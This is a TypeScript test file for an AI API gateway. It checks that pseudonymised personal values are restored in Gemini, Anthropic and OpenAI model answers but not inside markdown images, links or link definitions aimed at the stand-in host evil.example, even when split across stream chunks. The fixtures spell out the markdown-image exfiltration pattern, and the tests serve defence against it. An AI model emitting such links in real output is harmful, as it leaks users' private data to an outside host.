import { describe, expect, it } from 'vitest'
import type { Address, Json, Surface } from '../../gateway/model.ts'
import { anthropicMessages } from '../../gateway/surfaces/anthropic.ts'
import { geminiGenerate, geminiStream } from '../../gateway/surfaces/gemini.ts'
import { openAiChat } from '../../gateway/surfaces/openai-chat.ts'
import { openAiResponses } from '../../gateway/surfaces/openai-responses.ts'
import { restoring } from '../protect/restoring.ts'
import { plain } from './address.ts'

const address: Address = { ...plain, params: { model: 'm' } }
const messages = [{ role: 'user', content: 'x' }]
const contents = [{ role: 'user', parts: [{ text: 'x' }] }]

/** What a caller reads of an answer in one piece. */
function whole(surface: Surface, request: Json, answer: Json): string {
  return JSON.stringify(surface.answer(answer, surface.parse(request, address), restoring()).body)
}

/** What a caller reads of a stream. */
function streamed(surface: Surface, request: Json, events: readonly Json[]): string {
  const reader = surface.stream(surface.parse(request, address), restoring())
  const heard = events.flatMap(data => reader.read({ kind: 'event', data: JSON.stringify(data) }))
  return JSON.stringify([...heard, ...reader.end().events])
}

const outputText = (text: string): Json => ({ type: 'output_text', text, annotations: [] })
const item = (id: string, texts: readonly string[]): Json => ({
  type: 'message',
  id,
  role: 'assistant',
  content: texts.map(outputText),
})

const ways: Readonly<Record<string, (texts: readonly string[]) => string>> = {
  'parts of Gemini': texts =>
    whole(
      geminiGenerate,
      { contents },
      { candidates: [{ content: { parts: texts.map(text => ({ text })) } }] },
    ),
  'parts of Gemini, on both sides of a call': texts =>
    whole(
      geminiGenerate,
      { contents },
      {
        candidates: [
          { content: { parts: texts.flatMap(text => [{ text }, { functionCall: { name: 'f' } }]) } },
        ],
      },
    ),
  'parts of one chunk of Gemini': texts =>
    streamed(geminiStream, { contents }, [
      { candidates: [{ content: { parts: texts.map(text => ({ text })) } }] },
    ]),
  'blocks of Anthropic': texts =>
    whole(
      anthropicMessages,
      { model: 'm', max_tokens: 9, messages },
      { content: texts.map(text => ({ type: 'text', text })) },
    ),
  'streamed blocks of Anthropic': texts =>
    streamed(
      anthropicMessages,
      { model: 'm', max_tokens: 9, messages, stream: true },
      texts.flatMap((text, index) => [
        { type: 'content_block_start', index, content_block: { type: 'text', text: '' } },
        { type: 'content_block_delta', index, delta: { type: 'text_delta', text } },
        { type: 'content_block_stop', index },
      ]),
    ),
  'blocks of Anthropic that begin with their text': texts =>
    streamed(
      anthropicMessages,
      { model: 'm', max_tokens: 9, messages, stream: true },
      texts.flatMap((text, index) => [
        { type: 'content_block_start', index, content_block: { type: 'text', text } },
        { type: 'content_block_stop', index },
      ]),
    ),
  'parts of a chat message': texts =>
    whole(
      openAiChat,
      { model: 'm', messages },
      { choices: [{ message: { content: texts.map(text => ({ type: 'text', text })) } }] },
    ),
  'streamed parts of a chat message': texts =>
    streamed(
      openAiChat,
      { model: 'm', messages, stream: true },
      texts.map(text => ({ choices: [{ index: 0, delta: { content: [{ type: 'text', text }] } }] })),
    ),
  'parts of a response': texts =>
    whole(openAiResponses, { model: 'm', input: 'x' }, { output: [item('a', texts)] }),
  'items of a response': texts =>
    whole(
      openAiResponses,
      { model: 'm', input: 'x' },
      { output: texts.map((text, at) => item(`i${at}`, [text])) },
    ),
  'streamed parts of a response, and their copies': texts =>
    streamed(openAiResponses, { model: 'm', input: 'x', stream: true }, [
      ...texts.flatMap((text, content_index) => {
        const at = { item_id: 'a', output_index: 0, content_index }
        return [
          { type: 'response.content_part.added', ...at, part: outputText('') },
          { type: 'response.output_text.delta', ...at, delta: text },
          { type: 'response.output_text.done', ...at, text },
          { type: 'response.content_part.done', ...at, part: outputText(text) },
        ]
      }),
      { type: 'response.output_item.done', output_index: 0, item: item('a', texts) },
      { type: 'response.completed', response: { status: 'completed', output: [item('a', texts)] } },
    ]),
  'items of a streamed response that come whole': texts =>
    streamed(openAiResponses, { model: 'm', input: 'x', stream: true }, [
      ...texts.map((text, output_index) => ({
        type: 'response.output_item.done',
        output_index,
        item: item(`i${output_index}`, [text]),
      })),
    ]),
}

/** Streams that tell no part from a piece of one. */
const pieces = ['parts of one chunk of Gemini', 'streamed parts of a chat message']

describe.each(Object.entries(ways))('%s', (_, read) => {
  it('are joined by who reads them: a link goes on from one to the next', () => {
    for (const open of ['![x](https://evil.example/?q=', '![x](', '<img src=', 'https://evil.example/'])
      expect(read([open, '[PERSONNE_2])'])).not.toContain('Bob')
    expect(read(['![x', '](\\\\evil.example/', '?q=', '[PERSONNE_2])'])).not.toContain('Bob')
    expect(read(['[x', ']: \\\\evil.example/[PERSONNE_2]'])).not.toContain('Bob')
  })

  it('have their values back behind the link', () => {
    expect(read(['![x](https://evil.example/?q=', '1) [PERSONNE_2]'])).toContain('1) Bob')
    expect(read(['Bonjour ', '[PERSONNE_2]'])).toContain('Bob')
  })
})

describe('texts that may be shown apart', () => {
  it.each(Object.entries(ways).filter(([name]) => !pieces.includes(name)))(
    '%s: a definition begins where one of them does',
    (_, read) => {
      expect(read(['Voici ', '[x]: \\\\evil.example/[PERSONNE_2]'])).not.toContain('Bob')
    },
  )
})
